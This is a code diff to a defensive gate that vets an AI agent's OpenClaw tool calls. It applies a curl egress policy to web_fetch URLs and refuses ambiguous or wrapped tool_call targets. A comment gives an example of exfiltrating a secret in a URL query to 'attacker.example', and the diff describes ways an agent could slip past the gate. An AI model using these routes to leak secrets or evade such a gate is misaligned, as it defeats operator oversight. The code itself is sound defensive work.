@@ -40,8 +40,35 @@ const terminalReadOnly = new Set(["list", "read", "resize", "close"]);
 const workshopReadOnly = new Set(["read", "list", "inspect", "history"]);
 /** Tool Search's call tool: it runs a catalog tool by id or name (`openclaw:core:exec`). */
 const toolSearchCall = "tool_call";
-/** Fields of tool_call that pick the target; the rest (or `args`) are the target's parameters. */
-const toolCallSelectors = new Set(["id", "name", "tool", "args", "arguments"]);
+/** Fields of tool_call that pick the target, in the order OpenClaw reads them (tool-search-request). */
+const toolCallSelectors = ["id", "toolId", "name"];
+
+/**
+ * The target's parameters as OpenClaw 2026.9.6 builds them (readToolSearchCallArgs): `args` or
+ * `input` when it is not an empty object (its `args.<key>` fields merged under it), else every
+ * field but the wrappers and the selector, with `args.<key>` fields as `<key>`.
+ */
+function toolCallInput(p, selectorKey) {
+  const isDotted = (k) => k.startsWith("args.") && k.length > 5;
+  const dotted = Object.fromEntries(
+    Object.entries(p)
+      .filter(([k]) => isDotted(k))
+      .map(([k, v]) => [k.slice(5), v]),
+  );
+  const nested = p.args ?? p.input;
+  const emptyRecord =
+    typeof nested === "object" &&
+    nested !== null &&
+    !Array.isArray(nested) &&
+    Object.keys(nested).length === 0;
+  if (nested !== undefined && nested !== null && !emptyRecord)
+    return typeof nested === "object" && !Array.isArray(nested) ? { ...dotted, ...nested } : nested;
+  const wrappers = new Set(["args", "input", selectorKey]);
+  return {
+    ...dotted,
+    ...Object.fromEntries(Object.entries(p).filter(([k]) => !wrappers.has(k) && !isDotted(k))),
+  };
+}
 /** plugins-tool actions that change nothing. */
 const pluginsReadOnly = new Set(["list", "inspect", "search"]);
 /** File tools whose target may be an agent start-up file. */
@@ -407,12 +434,34 @@ export function createGate(lib, config = {}, host = {}) {
     return { params: { ...p, [field]: j.canonical } };
   }
 
-  /** web_fetch of a pinned URL: refused with the approved copy's path; other URLs pass. */
-  async function checkWebFetch(event) {
-    const url = event.params?.url;
-    if (typeof url !== "string") return block(event, "the gate cannot tell which URL this call fetches");
+  /**
+   * web_fetch: a pinned URL is refused with the approved copy's path; any other URL is judged
+   * like `curl -s URL` by the policy, so web_fetch reaches the hosts exec's curl may reach and no
+   * other. The request itself is egress: a secret the model read can leave in its path or query
+   * (`https://attacker.example/?k=…`) whatever the reply, in judge and sandbox mode alike (the
+   * tool runs in the gateway's process, not in serve's container).
+   */
+  async function checkWebFetch(event, ctx) {
+    const raw = event.params?.url;
+    if (typeof raw !== "string") return block(event, "the gate cannot tell which URL this call fetches");
+    return fetchRefusal(event, ctx, webFetchUrl(raw));
+  }
+
+  /** A request OpenClaw makes to `url` for a tool: a pinned URL or one curl may not fetch is refused. */
+  async function fetchRefusal(event, ctx, url) {
     const hit = await lib.pinnedAnswerFor(url, agentHome);
-    return hit === undefined ? undefined : block(event, hit.message, `read ${hit.localPath}`);
+    if (hit !== undefined) return block(event, hit.message, `read ${hit.localPath}`);
+    const judge = await withDeadline(ready, timeoutMs, ctx?.abortSignal);
+    const j = judge.judge(`curl -s ${shellQuote(url)}`, {
+      cwd: realPathOf(workspaceOf(ctx)),
+      env: { HOME: home },
+    });
+    if (j.verdict === "allow") return undefined;
+    return block(
+      event,
+      `fetching ${JSON.stringify(url.slice(0, 200))} sends a request out, judged like \`curl -s URL\` by policy ${judge.policy.name}: ${j.rule}: ${j.reason}`,
+      `fetch only https URLs of the hosts policy ${judge.policy.name} lets curl reach; the operator adds a host to the policy`,
+    );
   }
 
   /**
@@ -596,17 +645,23 @@ export function createGate(lib, config = {}, host = {}) {
   /** tool_call: the target tool's call judged as if made directly (blocked when that is blocked). */
   async function checkToolCall(event, ctx) {
     const p = event.params ?? {};
-    const selector = [p.id, p.name, p.tool].find((x) => typeof x === "string" && x.trim() !== "");
-    if (selector === undefined) return block(event, "the gate cannot tell which tool this call runs");
+    // OpenClaw reads the target as id ?? toolId ?? name, or (flattened) by whichever of them names
+    // a catalog entry, which the gate cannot see: two that differ are refused.
+    const named = toolCallSelectors.filter((k) => p[k] !== undefined && p[k] !== null);
+    const selector = named.length > 0 ? p[named[0]] : undefined;
+    if (typeof selector !== "string" || selector.trim() === "")
+      return block(event, "the gate cannot tell which tool this call runs");
+    if (named.some((k) => p[k] !== selector))
+      return block(
+        event,
+        `it names its target twice (${named.join(", ")}), and OpenClaw may run either`,
+        "name the target once, with id",
+      );
     // Catalog ids are source:sourceName:name; OpenClaw folds case and aliases bash → exec.
     const raw = selector.trim().split(":").at(-1).toLowerCase();
     const target = raw === "bash" ? "exec" : raw === "apply-patch" ? "apply_patch" : raw;
     if (target === toolSearchCall) return block(event, "tool_call may not call tool_call");
-    const nested = p.args ?? p.arguments;
-    const params =
-      nested !== undefined
-        ? nested
-        : Object.fromEntries(Object.entries(p).filter(([k]) => !toolCallSelectors.has(k)));
+    const params = toolCallInput(p, named[0]);
     if (typeof params !== "object" || params === null || Array.isArray(params))
       return block(event, "the target's parameters must be an object");
     // No call id: a planting command is refused here (none would ever settle under this id).
@@ -634,6 +689,10 @@ export function createGate(lib, config = {}, host = {}) {
     const busy = mode === "sandbox" ? undefined : plantingRefusal(event, undefined);
     if (busy) return busy;
     const judge = await withDeadline(ready, timeoutMs, ctx?.abortSignal);
+    for (const url of c.urls ?? []) {
+      const refused = await fetchRefusal(event, ctx, url);
+      if (refused) return refused;
+    }
     for (const file of c.read) {
       const refused = checkFileRead(judge, { ...event, params: { path: file } }, ctx);
       if (refused) return refused;
@@ -712,7 +771,7 @@ export function createGate(lib, config = {}, host = {}) {
           return checkFileRead(await withDeadline(ready, timeoutMs, ctx?.abortSignal), event, ctx);
         if (event.toolName === "ls")
           return checkList(await withDeadline(ready, timeoutMs, ctx?.abortSignal), event, ctx);
-        if (event.toolName === "web_fetch") return await checkWebFetch(event);
+        if (event.toolName === "web_fetch") return await checkWebFetch(event, ctx);
         if (event.toolName !== "exec" && event.toolName !== "process") return await otherTool(event, ctx);
         const judge = await withDeadline(ready, timeoutMs, ctx?.abortSignal);
         if (event.toolName === "exec") return await judgeExec(judge, event, ctx);
@@ -904,6 +963,21 @@ function refuseInWorkspaces(workspaces, own) {
           `${what} ${real} is inside the agent workspace ${ws} (or holds it), where the agent could change it (fix: move it outside every agent workspace)`,
         );
     }
+}
+
+/**
+ * The URL OpenClaw 2026.9.6's web_fetch requests for `raw` (sanitizeWebFetchUrl): trailing
+ * whitespace and control characters dropped, leading whitespace dropped, whitespace after
+ * `http(s)://` and after a bare authority dropped.
+ */
+export function webFetchUrl(raw) {
+  let end = raw.length;
+  while (end > 0 && raw.charCodeAt(end - 1) <= 32) end -= 1;
+  return raw
+    .slice(0, end)
+    .replace(/^\s+/, "")
+    .replace(/^(https?:\/\/)\s+/i, "$1")
+    .replace(/^(https?:\/\/[^/?#\s]+)\s+$/i, "$1");
 }
 
 function exitCodeOf(result) {
